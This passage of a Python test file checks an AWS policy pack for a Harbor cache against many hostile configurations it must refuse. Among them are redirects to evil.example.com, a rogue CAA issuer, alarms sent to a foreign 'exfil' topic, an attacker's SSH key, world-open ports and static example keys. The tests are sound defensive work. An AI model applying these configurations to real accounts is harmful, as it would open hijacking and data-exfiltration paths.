        lambda s: set_on("harbor-vm-instance", vpcSecurityGroupIds=[output_of(s, "harbor-vm-sg"), FOREIGN_GROUP])(s),
        refused_by="security-groups-are-the-programs",
    ),
    Probe(
        "review2-foreign-groups",
        "P6 the load balancer in a literal group besides its own",
        "ha",
        lambda s: set_on("harbor-lb-alb", securityGroups=[output_of(s, "harbor-lb-sg"), FOREIGN_GROUP])(s),
        refused_by="security-groups-are-the-programs",
    ),
    Probe(
        "review2-foreign-groups",
        "P6 (review's) the load balancer's own group replaced by a literal world-open group",
        "ha",
        set_on("harbor-lb-alb", securityGroups=[FOREIGN_GROUP]),
        refused_by="security-groups-are-the-programs",
    ),
    Probe(
        "review2-foreign-groups",
        "P12 the instance attaches a pre-existing network interface",
        "dev",
        lambda s: [
            changed(
                s,
                "harbor-vm-instance",
                lambda p: p.update(networkInterfaces=[{"deviceIndex": 1, "networkInterfaceId": "eni-0123"}]),
            )
        ],
        refused_by="aws-ec2-instance-instance",
    ),
]

REVIEW2_PROBES += [
    Probe(
        "review2-dns",
        "P8 an A record for another name in the zone to an outside address",
        "dev",
        lambda s: [
            made(
                "aws:route53/record:Record",
                "www",
                {"zoneId": "Z0123", "name": "www.dev.example.com", "type": "A", "ttl": 60, "records": ["203.0.113.66"]},
            )
        ],
        refused_by="aws-route53-record-record",
    ),
    Probe(
        "review2-dns",
        "P8b a CAA record for the cache's name with allowOverwrite, naming another CA",
        "dev",
        lambda s: [
            made(
                "aws:route53/record:Record",
                "caa2",
                {
                    "zoneId": "Z0123",
                    "name": "harbor.dev.example.com",
                    "type": "CAA",
                    "ttl": 60,
                    "allowOverwrite": True,
                    "records": ['0 issue "evil-ca.example"'],
                },
            )
        ],
        refused_by="aws-route53-record-record",
    ),
    Probe(
        "review2-dns",
        "P8c the program's CAA record naming another CA",
        "dev",
        set_on("harbor-caa-caa", records=['0 issue "evil-ca.example"']),
        refused_by="aws-route53-record-record",
    ),
    Probe(
        "review2-dns",
        "P8d the program's A record moved to another name with allowOverwrite",
        "dev",
        set_on("harbor-dns-a", name="www.dev.example.com", allowOverwrite=True),
        refused_by="aws-route53-record-record",
    ),
]

REVIEW2_PROBES += [
    Probe(
        "review2-nits",
        "P9 the HTTP listener redirects to another host",
        "ha",
        lambda s: [changed(s, "harbor-lb-http", lambda p: p["defaultActions"][0]["redirect"].update(host="evil.example.com"))],
        refused_by="aws-lb-listener-listener",
    ),
    Probe(
        "review2-nits",
        "P10 an alarm notifies another account's SNS topic",
        "dev",
        lambda s: [
            changed(
                s, "harbor-alarms-data-disk", lambda p: p.update(alarmActions=["arn:aws:sns:eu-central-1:999999999999:exfil"])
            )
        ],
        refused_by="alarms-notify-the-programs-topic",
    ),
]


def all_of_ipv4_but_one() -> list[str]:
    everything = ipaddress.ip_network("0.0.0.0/0")
    return [str(n) for n in everything.address_exclude(ipaddress.ip_network("255.255.255.255/32"))]


REVIEW2_PROBES += [
    Probe(
        "review2-world",
        "P3 22 from every IPv4 address but 255.255.255.255",
        "dev",
        lambda s: [changed(s, "harbor-vm-sg", lambda p: p["ingress"].__setitem__(-1, tcp(22, *all_of_ipv4_but_one())))],
        refused_by="aws-ec2-securitygroup-securitygroup",
    ),
    Probe(
        "review2-world",
        "P3b 443 from 0.0.0.0/1 (half the internet) without allowPublicAccess",
        "dev",
        lambda s: [changed(s, "harbor-vm-sg", lambda p: p["ingress"].append(tcp(443, "0.0.0.0/1")))],
        refused_by="aws-ec2-securitygroup-securitygroup",
    ),
    Probe(
        "review2-world",
        "P3c 22 from a public /12",
        "dev",
        lambda s: [changed(s, "harbor-vm-sg", lambda p: p["ingress"].append(tcp(22, "100.128.0.0/12")))],
        refused_by="aws-ec2-securitygroup-securitygroup",
    ),
]


def literal_identity(name: str, key: str, value: str) -> Callable[[list[EngineResource]], list[EngineResource]]:
    """Review 2, finding 8: a field of a 'nothing to check' type set to a literal id, its dependency gone."""

    def build(stack):
        resource = changed(stack, name, lambda p: p.update({key: value}))
        resource.property_dependencies = {**resource.property_dependencies, key: []}
        return [resource]

    return build


REVIEW2_PROBES += [
    Probe(
        "review2-identities",
        "P-volume attached to a foreign instance",
        "dev",
        literal_identity("harbor-vm-data-attachment", "instanceId", "i-0foreign00000000"),
        refused_by="identities-come-from-the-program",
    ),
    Probe(
        "review2-identities",
        "P-EIP associated with another instance",
        "dev",
        literal_identity("harbor-vm-eip-association", "instanceId", "i-0foreign00000000"),
        refused_by="identities-come-from-the-program",
    ),
    Probe(
        "review2-identities",
        "P-instance with a pre-existing key pair",
        "dev",
        literal_identity("harbor-vm-instance", "keyName", "ops-laptop"),
        refused_by="identities-come-from-the-program",
    ),
    Probe(
        "review2-identities",
        "P-key pair with an attacker's public key",
        "dev",
        literal_identity("harbor-vm-key-pair", "publicKey", "ssh-ed25519 AAAAattacker"),
        refused_by="identities-come-from-the-program",
    ),
]

PROBES += REVIEW2_PROBES

# The third review of issue 22: a literal kept beside the dependency. The property still comes from the program's
# resource (`sg.id.apply(lambda _: "sg-...")`, so its property dependency is the program's) but names something
# else. AnalyzeStack hands every resource's outputs, a bridged one's with its "id" (tests/standins/policy_engine.py
# BRIDGED_PACKAGES cites the engine and the bridge), so the pack compares the value with the source's. Each of
# these passed the pack before that comparison (the stacks' ids in the shapes AWS gives them, policy_engine.py
# EC2_ID_PREFIXES); the registry grant's was refused already (its bucket's name; at up its tags too, policy/aws_lookups.py).
OTHER_BUCKET = "arn:aws:s3:::harbor-cache-20261128000000000000000099"  # another stack's cache bucket
FOREIGN_TOPIC = "arn:aws:sns:eu-central-1:999999999999:collect"
FOREIGN_TARGET_GROUP = "arn:aws:elasticloadbalancing:eu-central-1:123456789012:targetgroup/elsewhere/0123456789abcdef"


def the_lb_and_its_rule_in(group: str) -> Callable[[list[EngineResource]], list[EngineResource]]:
    """The load balancer in a literal group, and the nodes' 8080 rule admitting that same group (they agree)."""

    def build(stack):
        balancer = set_on("harbor-lb-alb", securityGroups=[group])(stack)[0]
        nodes = changed(stack, "harbor-vm-sg", lambda p: p["ingress"][0].update(securityGroups=[group]))
        return [balancer, nodes]

    return build


def registry_grant_on(bucket_arn: str) -> Callable[[list[EngineResource]], list[EngineResource]]:
    """The program's registry policy, made from its bucket, naming another bucket of the program's prefix."""

    def on_bucket(statements):
        for statement in statements:
            statement["Resource"] = f"{bucket_arn}/*" if str(statement["Resource"]).endswith("/*") else bucket_arn

    return lambda stack: [changed(stack, "harbor-storage-registry-access", in_policy(on_bucket))]


def beside(name: str, key: str, value: Callable[[list[EngineResource]], object]) -> Callable[[list[EngineResource]], list]:
    """The program's resource `name` with `key` set to `value(stack)`, its property dependency kept."""
    return lambda stack: set_on(name, **{key: value(stack)})(stack)


REVIEW3_PROBES = [
    *(
        Probe("review3-literal-ids", what, stack, beside(name, key, value), refused_by=policy)
        for what, stack, name, key, value, policy in (
            # (a) a single-group resource in a group the program does not own.
            (
                "the instance in one literal group",
                "dev",
                "harbor-vm-instance",
                "vpcSecurityGroupIds",
                lambda s: [FOREIGN_GROUP],
                "security-groups-are-the-programs",
            ),
            (
                "the database in one literal group",
                "s3",
                "harbor-data-db",
                "vpcSecurityGroupIds",
                lambda s: [FOREIGN_GROUP],
                "security-groups-are-the-programs",
            ),
            (
                "Redis in one literal group",
                "s3",
                "harbor-data-redis",
                "securityGroupIds",
                lambda s: [FOREIGN_GROUP],
                "security-groups-are-the-programs",
            ),
            # (b) identities.
            (
                "the data volume attached to a foreign instance",
                "dev",
                "harbor-vm-data-attachment",
                "instanceId",
                lambda s: "i-0foreign000000000",
                "identities-come-from-the-program",
            ),
            (
                "a foreign volume attached to the instance",
                "dev",
                "harbor-vm-data-attachment",
                "volumeId",
                lambda s: "vol-0foreign00000000",
                "identities-come-from-the-program",
            ),
            (
                "the EIP associated with another instance",
                "dev",
                "harbor-vm-eip-association",
                "instanceId",
                lambda s: "i-0foreign000000000",
                "identities-come-from-the-program",
            ),
            (
                "another address associated with the instance",
                "dev",
                "harbor-vm-eip-association",
                "allocationId",
                lambda s: "eipalloc-0foreign0000000",
                "identities-come-from-the-program",
            ),
            (
                "the instance with a pre-existing key pair",
                "dev",
                "harbor-vm-instance",
                "keyName",
                lambda s: "ops-laptop",
                "identities-come-from-the-program",
            ),
            (
                "the key pair with an attacker's public key",
                "dev",
                "harbor-vm-key-pair",
                "publicKey",
                lambda s: "ssh-ed25519 AAAAattacker",
                "identities-come-from-the-program",
            ),
            # Roles: the same class in the identity of what runs and what is granted.
            (
                "the instance with a pre-existing admin profile",
                "dev",
                "harbor-vm-instance",
                "iamInstanceProfile",
                lambda s: "AdminInstanceProfile",
                "instances-run-as-the-programs-role",
            ),
            (
                "DLM's service policy attached to the instance role",
                "dev",
                "harbor-vm-dlm-policy",
                "role",
                lambda s: output_of(s, "harbor-vm-role", "name"),
                "role-grants-land-on-the-right-role",
            ),
            (
                "the snapshot policy run as the instance role",
                "dev",
                "harbor-vm-snapshots",
                "executionRoleArn",
                lambda s: output_of(s, "harbor-vm-role", "arn"),
                "role-grants-land-on-the-right-role",
            ),
            # What the load balancer sends decrypted traffic to.
            (
                "a foreign instance in the nodes' target group",
                "ha",
                "harbor-vm-target",
                "targetId",
                lambda s: "i-0foreign000000000",
                "identities-come-from-the-program",
            ),
            (
                "a node attached to another target group",
                "ha",
                "harbor-vm-target",
                "targetGroupArn",
                lambda s: FOREIGN_TARGET_GROUP,
                "identities-come-from-the-program",
            ),
            (
                "a drain's rejoin registering a foreign instance",
                "ha",
                "harbor-install-rejoin",
                "instance_id",
                lambda s: "i-0foreign000000000",
                "identities-come-from-the-program",
            ),
            (
                "the HTTPS listener forwarding to another target group",
                "ha",
                "harbor-lb-https",
                "defaultActions",
                lambda s: [{"type": "forward", "targetGroupArn": FOREIGN_TARGET_GROUP}],
                "identities-come-from-the-program",
            ),
            (
                "the host key read from another instance's console",
                "dev",
                "harbor-vm-host-key",
                "instance_id",
                lambda s: "i-0foreign000000000",
                "identities-come-from-the-program",
            ),
            # Where notifications go.
            (
                "the backup watch's events to another account's topic",
                "dev",
                "aws:cloudwatch/eventTarget:EventTarget:harbor-backup-watch-snapshot-failed",
                "arn",
                lambda s: FOREIGN_TOPIC,
                "notifications-go-to-the-programs-topics",
            ),
            (
                "the backup watch's topic policy set on another topic",
                "dev",
                "harbor-backup-watch-topic-policy",
                "arn",
                lambda s: FOREIGN_TOPIC,
                "notifications-go-to-the-programs-topics",
            ),
            (
                "the database's events to another topic",
                "s3",
                "harbor-data-db-events",
                "snsTopic",
                lambda s: FOREIGN_TOPIC,
                "notifications-go-to-the-programs-topics",
            ),
            (
                "Redis's events to another topic",
                "s3",
                "harbor-data-redis",
                "notificationTopicArn",
                lambda s: FOREIGN_TOPIC,
                "notifications-go-to-the-programs-topics",
            ),
            (
                "the alarm e-mail subscribed to another topic",
                "mail",
                "harbor-alarms-email",
                "topic",
                lambda s: FOREIGN_TOPIC,
                "notifications-go-to-the-programs-topics",
            ),
            (
                "the metrics grant on a pre-existing role",
                "dev",
                "harbor-alarms-put-metrics",
                "role",
                lambda s: "OpsAdmin",
                "role-grants-land-on-the-right-role",
            ),
        )
    ),
    Probe(
        "review3-literal-ids",
        "the load balancer and the nodes' rule both in one literal group",
        "ha",
        the_lb_and_its_rule_in(FOREIGN_GROUP),
        refused_by="security-groups-are-the-programs",
    ),
    Probe(
        "review3-literal-ids",
        "the HTTPS listener forwarding through a weighted forward block to another target group",
        "ha",
        set_on(
            "harbor-lb-https",
            defaultActions=[{"type": "forward", "forward": {"targetGroups": [{"arn": FOREIGN_TARGET_GROUP, "weight": 1}]}}],
        ),
        refused_by="aws-lb-listener-listener",
    ),
    Probe(
        "review3-literal-ids",
        "the HTTPS listener redirecting to another host",
        "ha",
        set_on(
            "harbor-lb-https",
            defaultActions=[{"type": "redirect", "redirect": {"host": "evil.example.com", "statusCode": "HTTP_307"}}],
        ),
        refused_by="aws-lb-listener-listener",
    ),
    Probe(
        "review3-literal-ids",
        "the nodes' group sending to a literal group",
        "dev",
        lambda s: [changed(s, "harbor-vm-sg", lambda p: p["egress"].append(tcp(5432, securityGroups=[FOREIGN_GROUP])))],
        refused_by="security-groups-are-the-programs",
    ),
    Probe(
        "review3-literal-ids",
        "(c) the registry grant on another harbor-cache-* bucket (refused before too)",
        "s3",
        registry_grant_on(OTHER_BUCKET),
        refused_by="registry-grant-names-the-programs-bucket",
    ),
]
PROBES += REVIEW3_PROBES

# Review 22c F3: the registry bucket's settings and policy set on another bucket of the account (the Pulumi state's),
# with the program's bucket still as their dependency, or as a plain literal.
STATE_BUCKET = "acme-pulumi-state"
BUCKET_SETTING_NAMES = (
    "harbor-storage-tls-only",
    "harbor-storage-public-access-block",
    "harbor-storage-encryption",
    "harbor-storage-ownership",
    "harbor-storage-lifecycle",
)
REVIEW22C_PROBES = [
    Probe("review22c", f"{name} on the state bucket{how}", "s3", build, refused_by="identities-come-from-the-program")
    for name in BUCKET_SETTING_NAMES
    for how, build in (
        ("", lambda stack, name=name: [changed(stack, name, lambda p: p.update(bucket=STATE_BUCKET))]),
        (", no dependency", literal_identity(name, "bucket", STATE_BUCKET)),
    )
]
PROBES += REVIEW22C_PROBES

ISSUE_GAPS = (
    "imds",
    "identity",
    "security-groups",
    "listener",
    "dlm",
    "s3",
    "dns01",
    "documents",
    "credentials",
    "promises",
    "exemption-tags",
)


# The program's stacks the probes are added to, by the configuration each is made from.
STACK_MODES = {
    "dev": {},
    "ha": {"harbor-cache:replicas": 2},
    "s3": {"harbor-cache:storage": "s3", "harbor-cache:externalServices": True},
    "mail": {"harbor-cache:alarmEmail": "ops@cache-fixture.net"},
}


def stack_config(label: str) -> dict:
    """The configuration the engine hands the pack for the program's stack `label`."""
    return {**dev_config(), **STACK_MODES[label]}


@pytest.fixture(scope="module")
def stacks():
    return {label: engine_resources(run_program(stack_config(label))) for label in STACK_MODES}


def with_probe(stack: list[EngineResource], probe: list[EngineResource]) -> list[EngineResource]:
    replaced = {r.urn: r for r in probe}
    kept = [replaced.pop(r.urn, r) for r in stack]
    return [*kept, *replaced.values()]


def test_the_nodes_elastic_ips_pass_and_a_foreign_host_does_not(stacks):
    """The HA stack as the program makes it passes the load balancer's check (each node's /32 from its EIP); the
    same stack with one foreign /32 on 443 does not, at up and at a preview."""
    stack = stacks["ha"]
    rules = registration_of(stack, "harbor-lb-sg").inputs["ingress"]
    assert sorted(b for r in rules if "Elastic IP" in r["description"] for b in r["cidrBlocks"]) == sorted(
        f"{output_of(stack, name, 'publicIp')}/32" for name in ("harbor-vm-eip", "harbor-vm-1-eip")
    )
    for dry_run in (False, True):
        with running_pack(dry_run=dry_run, config=stack_config("ha"), disabled=WITHOUT_AWS_LOOKUPS) as pack:
            policy = "load-balancer-admits-allowed-cidrs-and-its-nodes"
            assert not [d for d in pack.analyze_stack(stack) if d.policy == policy]
            assert refused(pack, stack, PUBLIC_PATH_PROBES[0])


def test_the_corpus_covers_every_gap_of_the_review():
    """The 11 gaps, at least the review's 39 fabricated resources, and the earlier reviews' probes."""
    gaps = [probe.gap for probe in PROBES]
    assert set(ISSUE_GAPS) <= set(gaps)
    assert sum(gaps.count(gap) for gap in ISSUE_GAPS) >= 39 and "earlier" in gaps
    assert FAKE_ACCOUNT_ID  # the stacks are the harness's


@pytest.mark.parametrize("dry_run", [True, False], ids=["preview", "up"])
def test_every_probe_is_refused(stacks, dry_run):
    passed = []
    for probe, found in zip(PROBES, judged_in_their_stacks(stacks, PROBES, dry_run), strict=True):
        if not any(d.mandatory and d.policy == probe.refused_by for d in found):
            passed.append(f"{probe.gap}: {probe.what} (expected {probe.refused_by}, got {sorted({d.policy for d in found})})")
    assert passed == []


def judged(pack, stack: list[EngineResource], probe: Probe) -> list:
    added = probe.build(stack)
    return [d for r in added for d in pack.analyze(r)] + pack.analyze_stack(with_probe(stack, added))


def refused(pack, stack: list[EngineResource], probe: Probe) -> bool:
    return any(d.mandatory and d.policy == probe.refused_by for d in judged(pack, stack, probe))


def judged_in_their_stacks(stacks, probes: list[Probe], dry_run: bool, **options) -> list[list]:
    """Each probe's diagnostics, judged with its own stack's configuration (the engine hands the pack the stack's:
    the groups an instance may join, the settings' addresses depend on it), in the order of `probes`."""
    found: dict[int, list] = {}
    for label in sorted({probe.stack for probe in probes}):
        with running_pack(dry_run=dry_run, config=stack_config(label), disabled=WITHOUT_AWS_LOOKUPS, **options) as pack:
            for index, probe in enumerate(probes):
                if probe.stack == label:
                    found[index] = judged(pack, stacks[label], probe)
    return [found[index] for index in range(len(probes))]


def test_literal_ids_are_refused_by_the_comparison_with_the_outputs(stacks, tmp_path):
    """Break it on purpose: the pack with `holds_the_sources_value` always true (where values come from still
    checked) lets every review-3 probe through but those refused for their origin or shape alone: the egress rule
    that comes from no group at all, and the listener actions the resource check refuses."""
    pack_dir = tmp_path / "policy"
    shutil.copytree(POLICY_DIR, pack_dir, ignore=shutil.ignore_patterns("__pycache__"))
    with (pack_dir / "stack_checks.py").open("a") as checks:
        checks.write("\n\ndef holds_the_sources_value(value, source, output):\n    return True\n")
    found = judged_in_their_stacks(stacks, REVIEW3_PROBES, False, policy_dir=pack_dir)
    passed = [
        probe.what
        for probe, diagnostics in zip(REVIEW3_PROBES, found, strict=True)
        if not any(d.mandatory and d.policy == probe.refused_by for d in diagnostics)
    ]
    alone = ("the nodes' group sending to a literal group", "aws-lb-listener-listener")
    assert passed == [probe.what for probe in REVIEW3_PROBES if probe.what not in alone and probe.refused_by not in alone]


def test_a_literal_beside_an_id_unknown_at_a_fresh_preview_is_refused():
    """At the preview of a new stack the program's ids are unknown, so are the references made from them; a known
    literal kept beside the dependency cannot be the program's value and is refused."""
    fresh = engine_resources(run_program(dev_config(), fresh_preview=True))
    assert registration_of(fresh, "harbor-vm-sg").outputs["id"] == UNKNOWN
    with running_pack(dry_run=True) as pack:
        assert pack.analyze_stack(fresh) == []
        for probe in (p for p in REVIEW3_PROBES if p.stack == "dev"):
            try:
                assert refused(pack, fresh, probe), probe.what
            except KeyError:
                # The probe copies another resource's output (the instance role's arn), itself unknown at this preview
                # (absent from the fresh mocks' outputs): an unknown is no literal, judged by its dependency alone.
                assert probe.what == "the snapshot policy run as the instance role"


# Review 22b (issue 22): the cache's own name and CAA, instances joining groups by name, Harbor's own objects,
# the AWS provider's identity, and the lower findings. Each passed main's pack at d4277ab at preview and at up
# (review 22b: an independent review of this session, summarised in issue 22's note); the names say which finding.
FOREIGN_ACCOUNT_URI = "https://acme-v02.api.letsencrypt.org/acme/acct/999"
STATIC_KEYS = {"accessKey": "AKIAIOSFODNN7EXAMPLE", "secretKey": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}


def on_provider(**values) -> Callable[[list[EngineResource]], list[EngineResource]]:
    """The default AWS provider configured with `values` (stack config aws:*; structured values as JSON text)."""

    def build(stack):
        provider = copy.deepcopy(next(r for r in stack if r.type == "pulumi:providers:aws"))
        provider.inputs.update(values)
        provider.outputs.update(values)
        return [provider]

    return build


def first_of(stack: list[EngineResource], kind: str) -> EngineResource:
    return next(r for r in stack if r.type == kind)


def credentialed_public_project(stack: list[EngineResource], upstream: str = "dockerhub") -> list[EngineResource]:
    """The (public) dev upstream's registry with an upstream credential (outputs: only its hash, as the provider keeps it)."""
    from components.harbor.provider_base import secret_hash

    assert registration_of(stack, f"harbor-config-project-{upstream}").inputs["public"] is True
    registry = copy.deepcopy(registration_of(stack, f"harbor-config-registry-{upstream}"))
    registry.inputs.update(access_key="me", access_secret="dckr_pat_notarealtokenvalue0000")
    registry.outputs.update(
        credential_hash=secret_hash("me", "dckr_pat_notarealtokenvalue0000"), access_key_hash=secret_hash("me")
    )
    return [registry]


def topic_policy_source(arn: str) -> Callable[[list[EngineResource]], list[EngineResource]]:
    def change(props):
        document_ = json.loads(props["policy"])
        for statement in document_["Statement"]:
            statement["Condition"] = {"ArnLike": {"aws:SourceArn": arn}}
        props["policy"] = json.dumps(document_)

    return lambda stack: [changed(stack, first_of(stack, "aws:sns/topicPolicy:TopicPolicy").name, change)]


def topic_policy_with_duplicate_principal(stack: list[EngineResource]) -> list[EngineResource]:
    """{"Principal": {"AWS": "*"}, ..., "Principal": <the service>}: json.loads keeps the last, another parser the first."""
    policy = first_of(stack, "aws:sns/topicPolicy:TopicPolicy")
    statement = json.loads(policy.inputs["policy"])["Statement"][0]
    body = ", ".join(f"{json.dumps(k)}: {json.dumps(v)}" for k, v in statement.items() if k != "Principal")
    text = (
        '{"Version": "2012-10-17", "Statement": [{"Principal": {"AWS": "*"}, '
        + body
        + ', "Principal": '
        + json.dumps(statement["Principal"])
        + "}]}"
    )
    return [changed(stack, policy.name, lambda p: p.update(policy=text))]


def imported_certificate_on_the_listener(stack: list[EngineResource]) -> list[EngineResource]:
    certificate = made(
        "aws:acm/certificate:Certificate",
        "harbor-lb-imported",
        {"certificateBody": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", "privateKey": "k"},
        "HarborLoadBalancer",
        outputs={"arn": f"arn:aws:acm:eu-central-1:{FAKE_ACCOUNT_ID}:certificate/imported", "id": "x"},
    )
    listener = changed(stack, "harbor-lb-https", lambda p: p.update(certificateArn=certificate.outputs["arn"]))
    listener.property_dependencies = {**listener.property_dependencies, "certificateArn": [certificate.urn]}
    return [certificate, listener]


REVIEW22B_PROBES = [
    # H2: the cache's name and its CAA record.
    Probe(
        "review22b-H2",
        "B1 the cache's A record to a foreign address, its dependency on the EIP kept",
        "dev",
        set_on("harbor-dns-a", records=["203.0.113.66"]),
        refused_by="the-caches-name-is-the-programs",
    ),
    Probe(
        "review22b-H2",
        "B1ha the cache's alias to a foreign CloudFront distribution",
        "ha",
        set_on("harbor-dns-a", aliases=[{"name": "d111111abcdef8.cloudfront.net", "zoneId": "Z2FDTNDATAQYW2"}]),
        refused_by="the-caches-name-is-the-programs",
    ),
    Probe(
        "review22b-H2",
        "B17 the EIP attached by its own instance argument to a foreign instance",
        "dev",
        set_on("harbor-vm-eip", instance="i-0aaaaaaaaaaaaaaaa"),
        refused_by="aws-ec2-eip-eip",
    ),
    Probe(
        "review22b-H2",
        "B2 the CAA record naming a foreign ACME account, its dependency on the account command kept",
        "dev",
        set_on("harbor-caa-caa", records=[f'0 issue "letsencrypt.org; accounturi={FOREIGN_ACCOUNT_URI}"', '0 issuewild ";"']),
        refused_by="the-caches-name-is-the-programs",
    ),
    Probe(
        "review22b-H2",
        "B2b the HA CAA set (Let's Encrypt by DNS-01, any account) on one VM, whose role may write the challenge",
        "dev",
        set_on(
            "harbor-caa-caa",
            records=['0 issue "amazon.com"', '0 issue "letsencrypt.org; validationmethods=dns-01"', '0 issuewild ";"'],
        ),
        refused_by="the-caches-name-is-the-programs",
    ),
    Probe(
        "review22b-H2",
        "B2c the stack's account and Let's Encrypt by DNS-01 for any account in one CAA record",
        "dev",
        lambda s: set_on(
            "harbor-caa-caa",
            records=[*output_of(s, "harbor-caa-caa", "records"), '0 issue "letsencrypt.org; validationmethods=dns-01"'],
        )(s),
        refused_by="aws-route53-record-record",
    ),
    # M2: groups by name.
    Probe(
        "review22b-M2",
        "B3 the instance also in a pre-existing group by name",
        "dev",
        set_on("harbor-vm-instance", securityGroups=["launch-wizard-1"]),
        refused_by="aws-ec2-instance-instance",
    ),
    # M3: Harbor's own objects.
    Probe(
        "review22b-M3",
        "B16 a public project's registry given an upstream credential",
        "dev",
        credentialed_public_project,
        refused_by="public-projects-relay-no-credentials",
    ),
    Probe(
        "review22b-M3",
        "B16b a public project naming a credentialed registry by a literal id, its dependency on another kept",
        "dev",
        lambda s: [
            *credentialed_public_project(s),
            changed(s, "harbor-config-project-dockerhub", lambda p: p.update(public=False)),
            changed(
                s,
                "harbor-config-project-k8s",
                lambda p: p.update(registry_id=output_of(s, "harbor-config-registry-dockerhub", "registry_id")),
            ),
        ],
        refused_by="public-projects-relay-no-credentials",
    ),
    Probe(
        "review22b-M3",
        "B9 the monitor robot with every permission on the system and every project",
        "dev",
        set_on(
            "harbor-config-monitor-robot",
            system_access=[{"resource": "*", "action": "*"}],
            projects=[{"namespace": "*", "access": [{"resource": "*", "action": "*"}]}],
        ),
        refused_by="pulumi-python-dynamic-harbor-robot",
    ),
    Probe(
        "review22b-M3",
        "B9b the monitor robot with system-wide project creation",
        "dev",
        set_on(
            "harbor-config-monitor-robot",
            system_access=[{"resource": "registry", "action": "list"}, {"resource": "project", "action": "create"}],
        ),
        refused_by="pulumi-python-dynamic-harbor-robot",
    ),
    Probe(
        "review22b-M3",
        "B9c the monitor robot pushing into the proxy projects",
        "dev",
        set_on("harbor-config-monitor-robot", project_access=[{"resource": "repository", "action": "push"}]),
        refused_by="pulumi-python-dynamic-harbor-robot",
    ),
    Probe(
        "review22b-M3",
        "B11 self-registration on and projects by everyone",
        "dev",
        set_on("harbor-config-system-settings", self_registration=True, project_creation_restriction="everyone"),
        refused_by="pulumi-python-dynamic-harbor-systemsettings",
    ),
    Probe(
        "issue20-robot-prefix",
        "the robot name prefix moved off `robot$` (the nodes' robot login renamed under them)",
        "dev",
        set_on("harbor-config-system-settings", robot_name_prefix="bot$"),
        refused_by="pulumi-python-dynamic-harbor-systemsettings",
    ),
    # M4: the provider's identity.
    Probe("review22b-M4", "B20 the AWS provider with static keys", "dev", on_provider(**STATIC_KEYS), "pulumi-providers-aws"),
    Probe(
        "review22b-M4",
        "B20b the AWS provider with a session token",
        "dev",
        on_provider(token="FwoGZXIvYXdzEXAMPLE"),
        "pulumi-providers-aws",
    ),
    Probe(
        "review22b-M4",
        "B12 the AWS provider assuming a role in another account (JSON text, as the engine passes config)",
        "dev",
        on_provider(assumeRoles=json.dumps([{"roleArn": "arn:aws:iam::999999999999:role/x"}])),
        "pulumi-providers-aws",
    ),
    Probe(
        "review22b-M4",
        "B12b the AWS provider with assumeRole (structured)",
        "dev",
        on_provider(assumeRole={"roleArn": "arn:aws:iam::999999999999:role/x"}),
        "pulumi-providers-aws",
    ),
    # Lower ones.
    Probe(
        "review22b-low",
        "B5 the topic policy with aws:SourceArn '*'",
        "dev",
        topic_policy_source("*"),
        refused_by="aws-sns-topicpolicy-topicpolicy",
    ),
    Probe(
        "review22b-low",
        "B5c the topic policy naming another account's alarms",
        "dev",
        topic_policy_source("arn:aws:cloudwatch:eu-central-1:999999999999:alarm:*"),
        refused_by="aws-sns-topicpolicy-topicpolicy",
    ),
    Probe(
        "review22b-low",
        "B5b the topic policy with duplicate Principal keys",
        "dev",
        topic_policy_with_duplicate_principal,
        refused_by="aws-sns-topicpolicy-topicpolicy",
    ),
    Probe(
        "review22b-low",
        "B7 egress tcp/53 and tcp/22 to the world",
        "dev",
        lambda s: [
            changed(
                s,
                "harbor-vm-sg",
                lambda p: p["egress"].extend([tcp(53, "0.0.0.0/0"), tcp(22, "0.0.0.0/0", ipv6CidrBlocks=["::/0"])]),
            )
        ],
        refused_by="aws-ec2-securitygroup-securitygroup",
    ),
    Probe(
        "review22b-low",
        "B6 Redis accepting plain-text clients (transitEncryptionMode preferred)",
        "s3",
        set_on("harbor-data-redis", transitEncryptionMode="preferred"),
        refused_by="aws-elasticache-replicationgroup-replicationgroup",
    ),
    Probe(
        "review22b-low",
        "B13 ListResourceRecordSets on every zone",
        "dev",
        dns01_changed(lambda statements: statements[1].update(Resource="*")),
        refused_by="aws-iam-rolepolicy-rolepolicy",
    ),
    Probe(
        "review22b-low",
        "B13b ListResourceRecordSets on another zone",
        "dev",
        dns01_changed(lambda statements: statements[1].update(Resource="arn:aws:route53:::hostedzone/ZOTHERZONE0000")),
        refused_by="dns01-names-the-programs-hostname",
    ),
    Probe(
        "review22b-low",
        "B19 the stack's SSH key as RSA 1024",
        "dev",
        set_on("harbor-vm-ssh-key", algorithm="RSA", rsaBits=1024),
        refused_by="tls-index-privatekey-privatekey",
    ),
    Probe(
        "review22b-low",
        "B19b the key pair holding an RSA public key",
        "dev",
        set_on("harbor-vm-key-pair", publicKey="ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7 weak"),
        refused_by="aws-ec2-keypair-keypair",
    ),
    Probe(
        "review22b-low",
        "B21 the HTTPS listener serving an imported certificate",
        "ha",
        imported_certificate_on_the_listener,
        refused_by="identities-come-from-the-program",
    ),
    Probe(
        "review22c-minor",
        "the program's own certificate imported with a key someone holds",
        "ha",
        set_on(
            "harbor-lb-certificate",
            certificateBody="-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
            privateKey="-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----",
        ),
        refused_by="aws-acm-certificate-certificate",
    ),
    Probe(
        "review22c-minor",
        "the program's own certificate from a private CA",
        "ha",
        set_on(
            "harbor-lb-certificate",
            certificateAuthorityArn=f"arn:aws:acm-pca:eu-central-1:{FAKE_ACCOUNT_ID}:certificate-authority/x",
        ),
        refused_by="aws-acm-certificate-certificate",
    ),
    Probe(
        "review22c-minor",
        "the program's own certificate validated by e-mail",
        "ha",
        set_on("harbor-lb-certificate", validationMethod="EMAIL"),
        refused_by="aws-acm-certificate-certificate",
    ),
    Probe(
        "review22g-low",
        "F2 the program's certificate for a wildcard under the cache's name",
        "ha",
        set_on("harbor-lb-certificate", domainName="*.harbor.dev.example.com"),
        refused_by="aws-acm-certificate-certificate",
    ),
    Probe(
        "review22g-low",
        "F2 the program's certificate for another name",
        "ha",
        set_on("harbor-lb-certificate", domainName="login.example.org"),
        refused_by="aws-acm-certificate-certificate",
    ),
    Probe(
        "review22b-low",
        "B4b the upgrade's database snapshot shared with every account",
        "s3",
        lambda s: [changed(s, first_of(s, "aws:rds/snapshot:Snapshot").name, lambda p: p.update(sharedAccounts=["all"]))],
        refused_by="aws-rds-snapshot-snapshot",
